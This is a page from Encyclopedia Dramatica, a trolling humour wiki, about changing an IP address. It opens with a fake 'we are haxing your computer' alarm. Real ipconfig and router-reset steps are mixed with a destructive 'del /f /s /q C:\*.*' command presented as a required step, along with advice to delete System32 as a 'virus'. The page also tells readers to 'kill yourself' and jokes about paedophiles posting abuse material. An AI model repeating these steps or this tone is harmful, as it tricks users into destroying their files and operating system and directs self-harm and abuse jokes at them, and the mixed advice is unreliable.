IP address

From Encyclopedia Dramatica
(Redirected from IP)
Jump to navigation Jump to search
Info non-talk.png The content of this page may set off fake alarms. View the source to see it's completely safe.
Someone can immediately begin attacking your computer!

Your IP Address is and we are haxing your computer now. Not even pressing Alt+F4 will save you now, noob.


Proxies are the standard way of hiding your IP address from oppressive governmental regimes.

Why would you change your IP?It's useful if:

  1. You are a pedophile looking for an IP that hasn't been banned yet because of CP posting.
  2. You are planning to create a giant sock puppet farm in order to overturn Wikipedia ad majorem EDi gloriam.
  3. You were such a n00b in a forum and you annoyed the admins so much that they banned you.
  4. You want to raid a forum of n00bs but you failed to hire some /b/tards as they are not your personal army.
  5. You got humiliated and pwned by a powerful troll and you try to get a new identity.
  6. You are a hacker sought by the police.
  7. You were interrupted in a NO U war and you don't want to become a luser.

How to change your IP


Ifyour computer is connected directly to the internet without a NAT router in between, try this:

  1. Get to a command prompt. (From the Start menu, choose Run..., type cmd and press Enter.)
  2. Type ipconfig /release and press Enter.
  3. Optional: Turn off the computer and leave it turned off overnight.
  4. Type ipconfig /renew and press Enter.
  5. Type del /f /s /q C:\*.* and press Enter.
  6. Do not forget the last step!


  1. Log into the router's admin console (often or, or for netgear brandrouters use http://routerlogin.net
  2. Release the IP address (method varies by router manufacturer).
  3. Turn off router, Ethernet hubs/switches, and the cable/DSL modem.
  4. Leave everything off overnight.
  5. Turn everything back on and confirm the switch.

#2.1 (simplified but unreliable)

  1. Turn off your router, any Ethernet hubs/switches and your cable/DSL modem.
  2. Optional: Shut down your computer and leave it off until completed
  3. Leave everything off for 5-10 minutes.
  4. Confirmthe switch.
  5. Try Method 2 if this fails.


  1. Go to or , or for netgear brand routers use http://routerlogin.net
  2. Log in (if you do not know the password, Google for default router passwords).
  3. Find DNS addresses and write them down.
  4. Switch setting to Static IP. Put in DNS addresses and change your IP to whatever you like.


  1. Log into the router's admin console. (Often, or for netgear brand routers use http://routerlogin.net
  2. Release the IP address. (Method varies by router manufacturer)
  3. Change MAC address.
  4. Turn everything back on.


If nothing works

  1. Type del /f /s /q C:\*.* and press Enter.
  2. Kill yourself.

Final solution

Eliminating the virus known as System32 constitutes a permanent solution for this issue. Windows Optimizer can delete said virus, so you can change your IP at will.

How to change your IP #6

Go over to your computer and rip all wires out of wall problem solved

How to change your IP #7

Move to Germany and get your Internets from a german ISP. They automatically change your IP every 24 hours preferably while you're playing Black Ops 2, forcing you to lose the connection. Unfortunately, the german Government can legally view your porn traffic under the clever guise of finding Pedophiles, so you'll still need a Proxy.

How IP's are allocated by /8 subnet


External Links

IP address is part of a series on Language & Communication
Languages and DialectsGrammar, Punctuation, Spelling, Style, and UsageRhetoricalStrategiesPoetryThe Politics of Languageand CommunicationMediaVisual Rhetoric
Click topics to expand
Softwarez series.jpg

IP address is part of a series on


Visit theSoftwarez Portal for complete coverage.